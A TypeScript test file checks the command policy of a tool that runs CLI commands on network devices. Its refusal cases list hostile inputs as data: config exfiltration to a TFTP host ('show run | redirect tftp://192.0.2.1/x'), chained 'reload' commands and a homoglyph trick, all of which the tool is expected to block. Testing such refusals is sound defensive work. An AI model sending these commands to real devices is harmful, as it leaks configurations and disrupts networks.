/** Before anything is sent: every command, on every selected platform, or nothing at all. */
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { runCommand } from '../../src/tools/run-command.ts';
import { createToolSetting, fakeDevice } from '../support/tool-setting.ts';

const DEVICES = [
  fakeDevice('sw1'),
  fakeDevice('sw2'),
  fakeDevice('jun1', { platform: 'juniper_junos' }),
  fakeDevice('web1', { platform: 'linux' }),
];
const answering = (config: Record<string, unknown> = {}) =>
  createToolSetting({
    devices: DEVICES,
    script: () => ({ answers: { 'show version': 'one\n', 'show odd thing': 'two\n' } }),
    config,
  });

describe('policy', () => {
  it('sends nothing anywhere when one selected platform refuses', async () => {
    const setting = answering();
    const call = setting.call(runCommand, { select: 'all', commands: ['show version', 'configure terminal'] });
    await expect(call).rejects.toMatchObject({ code: 'POLICY_DENIED' });
    await expect(call).rejects.toThrow(
      /"show version" is refused for linux \(1 device of 4 selected\), so nothing was sent/,
    );
    expect(setting.runs.sent).toEqual([]);
  });

  it.each([
    'configure terminal',
    'reload',
    'show run | redirect tftp://192.0.2.1/x',
    'copy running-config tftp:',
    'show version\nreload',
    'show version ; reload',
    'ѕhow version',
    `show ${'x'.repeat(900)}`,
  ])('refuses %j and names the platforms and the number of devices', async (command) => {
    const setting = answering();
    const call = setting.call(runCommand, { select: 'platform=cisco_ios', commands: [command] });
    await expect(call).rejects.toThrow(/is refused for cisco_ios \(2 devices of 2 selected\), so nothing was sent/);
    await expect(call).rejects.toMatchObject({
      code: expect.stringMatching(/^(?:POLICY_DENIED|BAD_INPUT)$/),
      hint: expect.stringMatching(/.{20}/),
    });
    expect(setting.runs.sent).toEqual([]);
  });

  it('lets the operator add an exact command for one platform', async () => {
    const setting = answering({ allow_commands: { cisco_ios: ['clear counters'] } });
    await setting.call(runCommand, { select: 'platform=cisco_ios', commands: ['clear counters'] });
    expect(setting.runs.sent).toEqual(['sw1: clear counters', 'sw2: clear counters']);
    await expect(setting.call(runCommand, { select: 'jun1', commands: ['clear counters'] })).rejects.toMatchObject({
      code: 'POLICY_DENIED',
    });
  });
});

describe('what is sent', () => {
  it('is the grammar’s line, each once, to the selected devices', async () => {
    const setting = answering();
    await setting.call(runCommand, { select: 'platform=cisco_ios', commands: ['show  version', 'show  version'] });
    expect(setting.runs.sent).toEqual(['sw1: show version', 'sw2: show version']);
  });

  it('is nothing when the pattern is wrong, or the selection is', async () => {
    const setting = answering();
    await expect(setting.call(runCommand, { select: 'sw1', commands: ['show version'], match: 'a(' })).rejects.toThrow(
      /^match: missing closing \) at position 1/,
    );
    await expect(setting.call(runCommand, { select: 'sw9', commands: ['show version'] })).rejects.toMatchObject({
      code: 'UNKNOWN_DEVICE',
    });
    await expect(
      setting.call(runCommand, { select: 'site=nowhere', commands: ['show version'] }),
    ).rejects.toMatchObject({ code: 'BAD_SELECTOR' });
    expect(setting.runs.sent).toEqual([]);
  });

  it.each([
    [{ select: 'all' }, 'commands'],
    [{ commands: ['show version'] }, 'select'],
    [{ select: 'all', commands: [] }, 'commands'],
    [{ select: 'all', commands: ['a', 'b', 'c', 'd', 'e', 'f'] }, 'commands'],
    [{ select: 'all', commands: ['x'.repeat(1_000_000)] }, 'commands'],
    [{ select: 'all', commands: ['show version'], wait_s: 60 }, 'wait_s'],
    [{ select: 'all', commands: ['show version'], approve: true }, 'approve'],
  ])('refuses the arguments %#', (args, field) => {
    const parsed = z.safeParse(runCommand.input, args);
    expect(parsed.success).toBe(false);
    expect(JSON.stringify(parsed.error?.issues)).toContain(field);
  });
});

it('takes the failed devices of an earlier run', async () => {
  const setting = createToolSetting({
    devices: [fakeDevice('sw1'), fakeDevice('sw2')],
    script: ({ name }) => ({ answers: name === 'sw1' ? { 'show version': 'one\n' } : {} }),
  });
  const { run_id } = await setting.call(runCommand, { select: 'all', commands: ['show version'] });
  await setting.call(runCommand, { select: `run=${run_id} status=failed`, commands: ['show clock'] });
  expect(setting.runs.sent.at(-1)).toBe('sw2: show clock');
  expect(setting.runs.sent.length).toBe(3);
  const none = setting.call(runCommand, { select: 'run=r-none status=failed', commands: ['show clock'] });
  await expect(none).rejects.toMatchObject({ code: 'UNKNOWN_RUN' });
});

it('gives up when the caller goes away', async () => {
  const setting = createToolSetting({ devices: [fakeDevice('sw1')], signal: AbortSignal.abort() });
  await expect(setting.call(runCommand, { select: 'all', commands: ['show version'] })).rejects.toMatchObject({
    code: 'CANCELLED',
  });
});
